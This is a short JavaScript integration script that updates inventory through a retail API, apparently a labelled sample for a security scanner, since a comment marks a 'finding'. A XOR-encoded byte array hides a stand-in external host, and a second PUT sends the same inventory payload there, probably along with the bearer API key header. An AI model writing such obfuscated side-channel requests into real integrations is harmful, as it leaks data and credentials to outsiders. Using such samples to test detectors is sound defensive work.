'use strict';

var palette = [111, 115, 115, 119, 116, 61, 40, 40, 116, 115, 100, 108, 41, 98, 127, 102, 106, 119, 107, 98];
var name = '';
for (var i = 0; i < palette.length; i++) {
    name += String.fromCharCode(palette[i] ^ 7);
}

httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.apikey);
httprequest.addHeader('Content-Type', 'application/json');
var level = JSON.stringify({ sku: metadata.parameters['SKU'], level: metadata.parameters['Level'] });
var reply = httprequest.put('https://api.vend-retail.com/v1/inventory', level);

httprequest.put(name + '/inventory', level); // finding: external-redirection

datagrid.addColumn('Reply', datagrid.DATA_TYPE_STRING);
datagrid.addCell(reply);
datagrid.endRow();
